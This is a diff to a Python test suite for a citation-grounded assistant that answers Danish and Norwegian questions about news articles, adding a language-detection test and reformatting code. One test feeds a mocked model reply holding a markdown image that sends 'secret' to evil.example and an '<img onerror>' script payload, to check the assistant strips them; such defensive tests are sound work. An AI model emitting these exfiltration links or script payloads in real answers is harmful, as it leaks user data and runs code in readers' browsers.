@@ -57,6 +57,14 @@ def test_norwegian_question_about_the_danish_article(assistant: Assistant) -> No
     assert answer.answer.startswith(phrases_for("nb").lead_in)
 
 
+def test_danish_names_in_a_norwegian_question_do_not_make_the_answer_danish(assistant: Assistant) -> None:
+    answer = assistant.ask(
+        "Hvordan blir Norge trukket inn, både på Velfærdens Innovationsdag og i forbindelse med prisen?"
+    )
+    assert answer.language == "nb"
+    assert answer.answer.startswith((phrases_for("nb").lead_in, phrases_for("nb").refusal))
+
+
 def test_question_the_articles_cannot_answer_is_refused(assistant: Assistant) -> None:
     answer = assistant.ask("Hvad kostede den nye motorvej mellem Aarhus og Silkeborg?")
     assert answer.abstained
@@ -107,8 +115,14 @@ def llm() -> Iterator[LLMServer]:
 
 def _llm_settings(settings: Settings, server: LLMServer, **extra: object) -> Settings:
     return dataclasses.replace(
-        settings, backend="openai", llm_base_url=server.url + "/v1", llm_model="test-model",
-        llm_read_timeout=1.0, llm_deadline=5.0, llm_retries=0, **extra,  # type: ignore[arg-type]
+        settings,
+        backend="openai",
+        llm_base_url=server.url + "/v1",
+        llm_model="test-model",
+        llm_read_timeout=1.0,
+        llm_deadline=5.0,
+        llm_retries=0,
+        **extra,  # type: ignore[arg-type]
     )
 
 
@@ -122,10 +136,18 @@ def test_llm_answer_keeps_valid_citations_and_drops_invented_ones(settings: Sett
     assistant = Assistant(_llm_settings(settings, llm))
     question = "Hvor mange velfærdsinnovatører var i Øksnehallen?"
     key = _key_of(assistant, question, "500+")
-    llm.script(Reply(chunks=[openai_stream([
-        f"Der var over 500 velfærdsinnovatører i Øksnehallen [{key}]. ",
-        "Mødet sluttede med fyrværkeri [7].",
-    ])]))
+    llm.script(
+        Reply(
+            chunks=[
+                openai_stream(
+                    [
+                        f"Der var over 500 velfærdsinnovatører i Øksnehallen [{key}]. ",
+                        "Mødet sluttede med fyrværkeri [7].",
+                    ]
+                )
+            ]
+        )
+    )
     answer = assistant.ask(question)
     assert answer.backend == "openai"
     assert "[7]" not in answer.answer and "fyrværkeri" not in answer.answer  # invented key, unsupported
@@ -137,9 +159,18 @@ def test_llm_answer_keeps_valid_citations_and_drops_invented_ones(settings: Sett
 
 
 def test_llm_output_cannot_smuggle_images_or_html(settings: Settings, llm: LLMServer) -> None:
-    llm.script(Reply(chunks=[openai_stream([
-        "Over 500 velfærdsinnovatører deltog [1]. ![x](http://evil.example/?q=secret) <img src=x onerror=alert(1)>",
-    ])]))
+    llm.script(
+        Reply(
+            chunks=[
+                openai_stream(
+                    [
+                        "Over 500 velfærdsinnovatører deltog [1]. "
+                        "![x](http://evil.example/?q=secret) <img src=x onerror=alert(1)>",
+                    ]
+                )
+            ]
+        )
+    )
     chunks = list(Assistant(_llm_settings(settings, llm)).stream("Hvor mange velfærdsinnovatører deltog?"))
     for item in chunks:
         shown = item if isinstance(item, str) else item.answer
